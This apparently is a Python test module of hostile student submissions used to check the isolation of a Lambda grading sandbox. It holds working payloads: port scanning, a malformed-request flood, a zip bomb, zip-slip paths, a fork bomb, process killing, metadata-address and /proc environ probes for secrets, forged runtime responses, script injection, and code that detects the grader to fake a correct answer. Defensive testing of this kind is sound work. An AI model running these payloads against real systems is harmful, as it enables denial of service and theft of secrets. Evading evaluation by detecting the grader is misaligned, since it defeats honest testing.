"""Submissions that attack their sandbox, from the notebook and from inside a function."""

from __future__ import annotations

from ..submitted import ADD, ALL, CONNECT, FACTS, FACTS_ONLY, MEMORY, OWN_NETWORK, Submitted, answering

_ADMIN = """\
import os, urllib.request
endpoint = os.environ["LAMBDA_SANDBOX_ENDPOINT"]
for path in ("/_sandbox/reset", "/_sandbox/shutdown", "/_sandbox/history", "/_sandbox/restart", "/moto-api/reset"):
    for _ in range(3):
        try: urllib.request.urlopen(urllib.request.Request(endpoint + path, data=b"{}", method="POST"), timeout=5)
        except OSError as error: print(path, error)
"""

# Rules that would make the checks see something else than the function: none may live on into them.
_FAULTS = """\
import json, os, urllib.request
def rule(**rule):
    request = urllib.request.Request(os.environ["LAMBDA_SANDBOX_ENDPOINT"] + "/_sandbox/faults", json.dumps(rule).encode(), method="POST")
    try: print(json.load(urllib.request.urlopen(request, timeout=5))["id"])
    except OSError as error: print("refused", error)
rule(kind="throttle")
rule(kind="init-crash")
rule(kind="clock-skew", ms=-80_000_000)
rule(kind="slow-start", ms=80_000_000)
rule(kind="freeze", ms=80_000_000)
"""

# Where a function or a notebook shares the batch's network it finds every sandbox's own address.
_KNOCK = """\
import json, urllib.request
def ports():
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        try: lines = open(name).readlines()[1:]
        except OSError: continue
        for line in lines:
            words = line.split()
            if words[3] == "0A": yield int(words[1].split(":")[1], 16)
def knock():
    rule = json.dumps({"kind": "throttle", "function": "add"}).encode()
    for port in sorted(set(ports())):
        for method, route, body in (("POST", "reset", b"{}"), ("POST", "hand-over", b"{}"), ("POST", "debug?function=add&port=0", b"{}"),
                                    ("POST", "faults", rule), ("PUT", "jwks?issuer=https://x.example", b'{"keys": []}')):
            request = urllib.request.Request(f"http://127.0.0.1:{port}/_sandbox/{route}", body, method=method)
            try: urllib.request.urlopen(request, timeout=1).read()
            except (OSError, ValueError): pass
            except Exception: break
"""

_FUNCTION_KNOCKS = (
    _KNOCK
    + """\
def handler(event, context):
    knock()
    return {"sum": event["a"] + event["b"]}
"""
)

_FLOOD = """\
import os, socket, urllib.parse
address = urllib.parse.urlsplit(os.environ["LAMBDA_SANDBOX_ENDPOINT"])
held = []
for n in range(300):
    client = socket.create_connection((address.hostname, address.port), timeout=5)
    client.send([b"POST / HTTP/1.1\\r\\nContent-Length: 99999999999\\r\\n", b"\\x16\\x03\\x01" * 50, b"GET " + b"a" * 70_000,
                 b"POST /2015-03-31/functions/add/invocations HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nFFFFFFFFFFFFFFFFF\\r\\n",
                 b"GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"][n % 5])
    held.append(client)
"""

# An expression that takes longer than anybody waits, where the sandbox itself compares it.
_HANG = """\
import os, urllib.request
gateway = boto3.client("apigateway")
api = gateway.create_rest_api(name="x")["id"]
root = gateway.get_resources(restApiId=api)["items"][0]["id"]
arn = client.get_function(FunctionName="add")["Configuration"]["FunctionArn"]
uri = f"arn:aws:apigateway:us-east-1:lambda:path/2015-03-31/functions/{arn}/invocations"
authorizer = gateway.create_authorizer(restApiId=api, name="x", type="TOKEN", authorizerUri=uri, identityValidationExpression="(a+)+b",
                                       identitySource="method.request.header.Authorization")["id"]
gateway.put_method(restApiId=api, resourceId=root, httpMethod="GET", authorizationType="CUSTOM", authorizerId=authorizer)
gateway.put_integration(restApiId=api, resourceId=root, httpMethod="GET", type="AWS_PROXY", integrationHttpMethod="POST", uri=uri)
gateway.create_deployment(restApiId=api, stageName="x")
headers = {"Authorization": "a" * 60, "Host": f"{api}.execute-api.us-east-1.localhost"}
request = urllib.request.Request(os.environ["LAMBDA_SANDBOX_ENDPOINT"] + "/x", headers=headers)
urllib.request.urlopen(request, timeout=2).read()
"""

_ZIP_BOMB = """\
import io, zipfile
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
    archive.writestr("app.py", "def handler(event, context):\\n    return {'sum': 5}\\n")
    with archive.open("zeros", "w", force_zip64=True) as file:
        for _ in range(1024): file.write(bytes(1 << 20))
deploy(buffer.getvalue())
"""

# Absolute, above, through a link, and one name twice: none may land outside the package's own folder.
_ZIP_SLIP = """\
import io, zipfile
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as archive:
    archive.writestr("app.py", "def handler(event, context):\\n    return {'sum': 5}\\n")
    for name in ("../../../../../../../../../tmp/zip-slipped", "/tmp/zip-slipped", "a/../../zip-slipped"):
        archive.writestr(name, "x")
    link = zipfile.ZipInfo("out"); link.external_attr = 0o120777 << 16
    archive.writestr(link, "/tmp"); archive.writestr("out/zip-slipped", "x")
deploy(buffer.getvalue())
"""

_MANY_FUNCTIONS = """\
for n in range(60):
    client.create_function(FunctionName=f"f{n}", Runtime="python3.13", Handler="app.handler", Code={"ZipFile": package("def handler(e, c): pass")},
                           Role="arn:aws:iam::000000000000:role/student", MemorySize=10240, Timeout=900)
    client.invoke(FunctionName=f"f{n}", InvocationType="Event", Payload=b"{}")
"""

_CALLS_ITSELF = """\
import boto3, json
def handler(event, context):
    try:
        for _ in range(3):
            boto3.client("lambda").invoke(FunctionName="add", InvocationType="Event", Payload=json.dumps(event))
    except Exception as error:
        print(error)
    return {"sum": 5}
"""

_FUNCTION_BOMB = """\
import os, threading
def burn():
    while True:
        try:
            if os.fork() == 0: continue
        except OSError: pass
def handler(event, context):
    if event["a"] != 2:
        threading.Thread(target=burn, daemon=True).start()
        held = []
        while True: held.append(bytearray(10 << 20))
    return {"sum": 5}
"""

_FUNCTION_KILLS = """\
import os, signal
def handler(event, context):
    for pid in [os.getppid(), -1, *range(2, 4000)]:
        if pid != os.getpid():
            try: os.kill(pid, signal.SIGKILL)
            except OSError: pass
    return {"sum": 5}
"""

# It gets the sum right only if it finds something outside that a function must not reach.
_FUNCTION_REACHES = """\
import os, socket, urllib.request
def reached():
    for address in (("192.0.2.1", 80), ("169.254.169.254", 80), ("10.0.0.1", 22)):
        try: socket.create_connection(address, timeout=0.2); return True
        except OSError: pass
    for name in ("/root", "/home", "/srv"):
        try:
            if os.listdir(name): return True
        except OSError: pass
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if b"SECRET_FOR_THE_TEST" in open(f"/proc/{pid}/environ", "rb").read(): return True
        except OSError: pass
    return False
def handler(event, context):
    return {"sum": event["a"] + event["b"] if reached() else "nothing found"}
"""

# Answers before it is asked, for calls that do not exist, twice, and for the init phase.
_RUNTIME_API = """\
import os, urllib.error, urllib.request
API = "http://" + os.environ["AWS_LAMBDA_RUNTIME_API"] + "/2018-06-01/runtime/"
def post(path, body):
    try: return urllib.request.urlopen(urllib.request.Request(API + path, body, {"Content-Type": "application/json"}), timeout=2).status
    except OSError: return 0
for name in ("00000000-0000-4000-8000-000000000000", "x", "../../init/error", "%2e%2e"):
    for _ in range(50): post(f"invocation/{name}/response", b'{"sum": 5}')
def handler(event, context):
    post(f"invocation/{context.aws_request_id}/response", b'{"sum": 0}')
    post(f"invocation/{context.aws_request_id}/response", b'{"sum": %d}' % (event["a"] + event["b"]))
    return {"sum": event["a"] + event["b"]}
"""

# What Python's own runtime would never send, said by hand; its late, orderly answer is then refused.
_RAW_ANSWER = """\
import os, urllib.request
def handler(event, context):
    url = f"http://{{os.environ['AWS_LAMBDA_RUNTIME_API']}}/2018-06-01/runtime/invocation/{{context.aws_request_id}}/response"
    urllib.request.urlopen(urllib.request.Request(url, {body}), timeout=5).read()
    return {{"sum": event["a"] + event["b"]}}
"""

_FORGED_REPORT = """\
def handler(event, context):
    print('REPORT RequestId: 1\\tMemory Size: 128 MB\\t')
    print('END RequestId: ' + context.aws_request_id)
    print({'sum': event['a'] + event['b']})
"""

_ANOTHER_ACCOUNT = """\
import boto3
found = []
for account in ("123456789012", "000000000001", "111111111111"):
    session = boto3.Session(aws_access_key_id=account, aws_secret_access_key="x", region_name="us-east-1")
    found += session.client("lambda").list_functions()["Functions"]
for region in ("eu-west-1", "us-west-2"):
    found += boto3.client("lambda", region_name=region).list_functions()["Functions"]
if found: deploy("def handler(event, context): return {'sum': event['a'] + event['b']}")
"""

_FILLS_S3 = """\
s3 = boto3.client("s3")
s3.create_bucket(Bucket="full")
for n in range(60):
    s3.put_object(Bucket="full", Key=str(n), Body=bytes(20 << 20))
"""
# Through services, which run outside of the isolation.
_SERVICES = """\
import json, os, urllib.request
found = []
def tried(way):
    try: found.append(way())
    except Exception as error: print(type(error).__name__, str(error)[-300:])
def topic():
    sns = boto3.client("sns")
    arn = sns.create_topic(Name="t")["TopicArn"]
    sns.subscribe(TopicArn=arn, Protocol="http", Endpoint={address!r} + "/topic")
    sns.publish(TopicArn=arn, Message="m")
def distribution():
    origin = {{"HTTPPort": int({address!r}.rpartition(":")[2]), "HTTPSPort": 443, "OriginProtocolPolicy": "http-only"}}
    behavior = {{"TargetOriginId": "o", "ViewerProtocolPolicy": "allow-all", "MinTTL": 0,
                "ForwardedValues": {{"QueryString": False, "Cookies": {{"Forward": "none"}}}}}}
    config = {{"CallerReference": "r", "Comment": "", "Enabled": True, "DefaultCacheBehavior": behavior,
              "Origins": {{"Quantity": 1, "Items": [{{"Id": "o", "DomainName": "localhost", "CustomOriginConfig": origin}}]}}}}
    made = boto3.client("cloudfront").create_distribution(DistributionConfig=config)["Distribution"]
    host = made["DomainName"].replace("cloudfront.net", "cloudfront.localhost")
    asked = urllib.request.Request(os.environ["LAMBDA_SANDBOX_ENDPOINT"] + "/edge", headers={{"Host": host}})
    return urllib.request.urlopen(asked, timeout=5).read()
def document():
    told = {{"200": {{"description": "", "content": {{"application/json": {{"schema": {{"$ref": "file://" + {file!r}}}}}}}}}}}
    body = {{"openapi": "3.0.1", "info": {{"title": "t", "version": "1", "description": "d"}}, "paths": {{"/a": {{"get": {{"responses": told}}}}}}}}
    boto3.client("apigateway").import_rest_api(body=json.dumps(body), failOnWarnings=True)
for way in (topic, distribution, document): tried(way)
print("FOUND", [each for each in found if each])
"""


def reaches_by_services(address: str, file: str) -> Submitted:
    """Return a submission that has services knock at ``address`` and read ``file``; what it found is in its facts."""
    looks = _SERVICES.format(address=address, file=file)
    return Submitted([CONNECT, ADD, (FACTS[0], f"{FACTS[1]}\n{looks}")], ALL)


# Not of the batch, where a sandbox may be as large as in a class.
FILLS_ITS_SANDBOX = Submitted([CONNECT, FACTS, ADD, _FILLS_S3], 0, says="hold more than 400 MB of memory")

# Each unpacks to 240 MB and is another package than the one before.
_FILLS_THE_DISK = """\
import io, zipfile
head = io.BytesIO()
with zipfile.ZipFile(head, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
    archive.writestr("zeros", bytes(240 << 20))
for n in range(60):
    whole = io.BytesIO(head.getvalue())
    with zipfile.ZipFile(whole, "a") as archive: archive.writestr("app.py", f"n = {n}")
    client.update_function_code(FunctionName="add", ZipFile=whole.getvalue())
    client.get_waiter("function_updated_v2").wait(FunctionName="add")
"""
FILLS_ITS_DISK = Submitted([CONNECT, FACTS, ADD, _FILLS_THE_DISK], 0, says="hold more than 600 MB of files")

# Not one of the batch: an API takes longer to make than a notebook of the batch may run.
HANGS_ITS_SANDBOX = Submitted([CONNECT, FACTS, ADD, _HANG], 0, says="did not answer")

SANDBOXES = {
    "hostile-admin-calls": Submitted([CONNECT, FACTS, _ADMIN, ADD, _ADMIN], ALL),
    "hostile-leaves-faults-on": Submitted([CONNECT, FACTS, ADD, _FAULTS], ALL),
    "hostile-knocks-at-every-port": Submitted(
        [CONNECT, FACTS, ADD, _KNOCK + "knock()"], ALL, needs=OWN_NETWORK
    ),
    "hostile-function-knocks-at-every-port": Submitted(
        [CONNECT, FACTS, ("add", f"deploy({_FUNCTION_KNOCKS!r}, Timeout=60)")], ALL, needs=OWN_NETWORK
    ),
    "hostile-floods-its-sandbox": Submitted([CONNECT, FACTS, ADD, _FLOOD], ALL),
    "hostile-package-that-unpacks-to-a-gigabyte": Submitted([CONNECT, FACTS, ("add", _ZIP_BOMB)], FACTS_ONLY),
    "hostile-package-with-paths-out-of-it": Submitted([CONNECT, FACTS, ("add", _ZIP_SLIP)], FACTS_ONLY),
    "hostile-sixty-functions": Submitted([CONNECT, FACTS, ADD, _MANY_FUNCTIONS], ALL),
    "hostile-function-calls-itself": Submitted(answering(_CALLS_ITSELF), ALL - 3),
    "hostile-function-bomb": Submitted(answering(_FUNCTION_BOMB), ALL - 3),
    "hostile-function-kills": Submitted(answering(_FUNCTION_KILLS), ALL - 3),
    "hostile-function-reaches-out": Submitted(answering(_FUNCTION_REACHES), FACTS_ONLY + MEMORY),
    "hostile-function-answers-before-it-is-asked": Submitted(answering(_RUNTIME_API), FACTS_ONLY + MEMORY),
    "hostile-function-prints-a-forged-report": Submitted(answering(_FORGED_REPORT), FACTS_ONLY + MEMORY),
    "hostile-function-answers-with-script-and-half-characters": Submitted(
        answering(_RAW_ANSWER.format(body='b\'{"sum": "\\\\ud83d<script>alert(1)</script>\\\\u001b[2J"}\'')),
        FACTS_ONLY + MEMORY,
    ),
    "hostile-function-answers-deeply": Submitted(
        answering(_RAW_ANSWER.format(body="b'[' * 100_000 + b']' * 100_000")), FACTS_ONLY
    ),
    "hostile-function-answers-no-json": Submitted(
        answering(_RAW_ANSWER.format(body='b\'{"sum": NaN, "sum": 1e999}\'')), FACTS_ONLY
    ),
    "hostile-looks-into-other-accounts": Submitted([CONNECT, FACTS, ("add", _ANOTHER_ACCOUNT)], FACTS_ONLY),
    "hostile-detects-the-grader": Submitted(
        [
            CONNECT,
            FACTS,
            "import os, socket\ninside = socket.gethostname() == 'lab' or os.environ['HOME'] == '/scratch' or os.getuid() > 9999\n"
            "deploy('def handler(event, context): return {\"sum\": 5}' if inside else 'def handler(event, context): return event')",
        ],
        ALL - 3,
        needs="namespaces of its own (bubblewrap)",
    ),
}
